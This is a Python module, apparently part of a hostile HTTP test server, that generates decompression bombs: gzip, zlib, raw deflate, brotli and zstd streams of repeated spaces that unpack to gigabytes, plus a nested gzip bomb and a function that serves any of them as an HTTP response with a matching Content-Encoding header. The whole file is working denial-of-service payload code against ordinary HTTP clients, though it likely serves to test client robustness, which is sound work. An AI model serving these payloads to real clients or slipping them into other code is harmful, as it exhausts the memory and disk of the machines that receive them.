"""Small bytes that unpack to many. Each is made of one piece that repeats, so that it costs its sender nothing."""

import gzip
import struct
import zlib
from collections.abc import Iterator
from functools import cache

import brotli
from hostile_http import Answer, Request, head

_MEGABYTE = b" " * 1_000_000
_GIGABYTES = 4  # that each bomb unpacks to


@cache
def _deflated() -> bytes:
    """Return a megabyte as deflate blocks that end on a byte and look back at nothing: it can be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(_MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)


@cache
def _brotlied() -> tuple[bytes, bytes]:
    """Return the start of a brotli stream, and a piece of it that can be repeated."""
    packer = brotli.Compressor(quality=5)
    pieces = [packer.process(_MEGABYTE) + packer.flush() for _ in range(3)]
    return pieces[0] + pieces[1], pieces[2]


# zstd: a frame without a size (RFC 8878 3.1.1), then RLE blocks of 128 KiB in four bytes each
_ZSTD_START = struct.pack("<I", 0xFD2FB528) + bytes((0, 0x38))
_ZSTD_BLOCK = ((128 * 1024) << 3 | 0b010).to_bytes(3, "little") + b" "


def gzip_bomb(gigabytes: float = _GIGABYTES) -> Iterator[bytes]:
    """Yield spaces as gzip, without the end that nobody reads."""
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
    yield from _repeated(_deflated(), gigabytes, 1_000_000)


def zlib_bomb(gigabytes: float = _GIGABYTES) -> Iterator[bytes]:
    """Yield spaces as deflate in its zlib wrapper."""
    yield b"\x78\x9c"
    yield from _repeated(_deflated(), gigabytes, 1_000_000)


def raw_deflate_bomb(gigabytes: float = _GIGABYTES) -> Iterator[bytes]:
    """Yield spaces as bare deflate."""
    yield from _repeated(_deflated(), gigabytes, 1_000_000)


def brotli_bomb(gigabytes: float = _GIGABYTES) -> Iterator[bytes]:
    """Yield spaces as brotli."""
    start, piece = _brotlied()
    yield start
    yield from _repeated(piece, gigabytes, 1_000_000)


def zstd_bomb(gigabytes: float = _GIGABYTES) -> Iterator[bytes]:
    """Yield spaces as zstd."""
    yield _ZSTD_START
    yield from _repeated(_ZSTD_BLOCK, gigabytes, 128 * 1024)


def zstd_stored(body: bytes) -> bytes:
    """Return a short body as an honest zstd frame of one block that is stored as it is."""
    return _ZSTD_START + (len(body) << 3 | 1).to_bytes(3, "little") + body


@cache
def nested_gzip_bomb() -> bytes:
    """Return a gzip of a gzip of spaces: 300 MB from a few bytes."""
    return gzip.compress(b"".join(gzip_bomb(0.3)))


def _repeated(piece: bytes, gigabytes: float, size: int) -> Iterator[bytes]:
    batch = max(1, 65536 // len(piece))
    for _ in range(max(1, int(gigabytes * 1e9) // size // batch)):
        yield piece * batch


BOMBS = {
    "gzip": ("gzip", gzip_bomb), "deflate": ("deflate", zlib_bomb), "raw-deflate": ("deflate", raw_deflate_bomb),
    "brotli": ("br", brotli_bomb), "zstd": ("zstd", zstd_bomb), "x-gzip": ("x-gzip", gzip_bomb),
}  # fmt: skip


def bomb(name: str, kind: str = "text/html", gigabytes: float = _GIGABYTES) -> Answer:
    """Return an answer that is one of BOMBS."""
    coding, make = BOMBS[name]

    def answer(request: Request) -> Iterator[bytes]:
        yield head(f"Content-Type: {kind}", f"Content-Encoding: {coding}")
        yield from make(gigabytes)

    return answer
